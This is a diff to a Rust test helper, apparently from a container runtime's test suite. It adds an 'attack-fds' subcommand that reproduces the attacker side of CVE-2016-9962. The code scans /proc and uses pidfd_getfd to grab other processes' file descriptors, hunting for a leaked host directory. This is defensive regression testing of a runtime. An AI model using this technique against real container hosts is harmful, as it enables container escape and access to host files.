@@ -180,7 +180,7 @@ fn usage() -> ! {
         "usage: liana-checker report | write PATH DATA | open PATH [r|w] | alloc MB | \
          fork N SECS | spin SECS | count FILE | ignore-term SECS | sleep SECS | exit N | \
          mkdir PATH [MODE] | umount PATH | remount PATH ro|rw | mount SRC DEST TYPE | \
-         stat PATH | attack-exe SECS OUT"
+         stat PATH | attack-exe SECS OUT | attack-fds SECS OUT"
     );
     std::process::exit(2)
 }
@@ -333,6 +333,116 @@ fn attack_exe(secs: f64, out: &str) {
     });
     let _ = std::fs::write(out, summary.to_string());
     println!("{summary}");
+}
+
+/// CVE-2016-9962, attacker side: for `secs` seconds (or until /tmp/attack-stop exists),
+/// takes the open fds of every other process it can see (an `exec` set-up stage is
+/// one, for a few milliseconds), through /proc/PID/fd and with pidfd_getfd, and lists
+/// each one that is a directory, looking for /liana-host-marker: a host directory
+/// leaked to the runtime. Writes a JSON summary to `out`.
+fn attack_fds(secs: f64, out: &str) {
+    let me = std::process::id();
+    let mut seen = std::collections::BTreeSet::new();
+    let mut listable = std::collections::BTreeSet::new();
+    let mut escaped: Vec<String> = Vec::new();
+    let mut errors: BTreeMap<String, u64> = BTreeMap::new();
+    let start = Instant::now();
+    let _ = std::fs::write("/tmp/attack-ready", "1");
+    let dedup = |escaped: &mut Vec<String>| {
+        escaped.sort();
+        escaped.dedup();
+    };
+    while start.elapsed().as_secs_f64() < secs && !std::path::Path::new("/tmp/attack-stop").exists()
+    {
+        let Ok(rd) = std::fs::read_dir("/proc") else {
+            continue;
+        };
+        for e in rd.flatten() {
+            let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else {
+                continue;
+            };
+            if pid == me || pid == 1 {
+                continue;
+            }
+            seen.insert(pid);
+            // Through pidfd_getfd (ptrace access rules), whatever /proc says.
+            grab_fds(pid, &mut escaped, &mut errors);
+            let fds = match std::fs::read_dir(format!("/proc/{pid}/fd")) {
+                Ok(fds) => fds,
+                Err(e) => {
+                    *errors
+                        .entry(format!("list fds: errno {}", e.raw_os_error().unwrap_or(0)))
+                        .or_default() += 1;
+                    continue;
+                }
+            };
+            listable.insert(pid);
+            for fd in fds.flatten() {
+                let link = fd.path();
+                if let Ok(entries) = std::fs::read_dir(&link) {
+                    let names: Vec<String> = entries
+                        .flatten()
+                        .map(|x| x.file_name().to_string_lossy().into_owned())
+                        .collect();
+                    if names.iter().any(|n| n == "liana-host-marker") {
+                        let target = std::fs::read_link(&link)
+                            .map(|p| p.to_string_lossy().into_owned())
+                            .unwrap_or_default();
+                        escaped.push(format!("{}: {target}", link.display()));
+                    }
+                }
+            }
+        }
+        dedup(&mut escaped);
+        std::thread::sleep(Duration::from_micros(100));
+    }
+    let summary = json!({
+        "seen": seen.len(), "listable": listable.len(), "escaped": escaped, "errors": errors,
+    });
+    let _ = std::fs::write(out, summary.to_string());
+    println!("{summary}");
+}
+
+/// Copies fds 0..64 of `pid` with pidfd_getfd and lists those that are directories.
+fn grab_fds(pid: u32, escaped: &mut Vec<String>, errors: &mut BTreeMap<String, u64>) {
+    use std::os::fd::{FromRawFd, OwnedFd};
+    // SAFETY: pidfd_open takes a pid and flags and returns a new fd or -1.
+    let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) };
+    if pidfd < 0 {
+        return;
+    }
+    // SAFETY: a fresh fd we own.
+    let pidfd = unsafe { OwnedFd::from_raw_fd(pidfd as i32) };
+    for n in 0..64 {
+        // SAFETY: pidfd_getfd takes two fds and flags and returns a new fd or -1.
+        let fd = unsafe {
+            libc::syscall(
+                libc::SYS_pidfd_getfd,
+                std::os::fd::AsRawFd::as_raw_fd(&pidfd),
+                n,
+                0,
+            )
+        };
+        if fd < 0 {
+            let e = std::io::Error::last_os_error().raw_os_error().unwrap_or(0);
+            if e != libc::EBADF {
+                *errors.entry(format!("pidfd_getfd: errno {e}")).or_default() += 1;
+                return;
+            }
+            continue;
+        }
+        // SAFETY: a fresh fd we own.
+        let fd = unsafe { OwnedFd::from_raw_fd(fd as i32) };
+        let link = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&fd));
+        if let Ok(entries) = std::fs::read_dir(&link) {
+            if entries
+                .flatten()
+                .any(|x| x.file_name() == "liana-host-marker")
+            {
+                escaped.push(format!("pidfd_getfd({pid}, {n})"));
+            }
+        }
+    }
 }
 
 fn num<T: std::str::FromStr>(s: Option<&String>) -> T {
@@ -503,6 +613,11 @@ fn main() {
         "stat" => {
             let Some(path) = args.get(1) else { usage() };
             println!("{}", stat_json(path));
+        }
+        "attack-fds" => {
+            let secs: f64 = num(args.get(1));
+            let Some(out) = args.get(2) else { usage() };
+            attack_fds(secs, out);
         }
         "attack-exe" => {
             let secs: f64 = num(args.get(1));
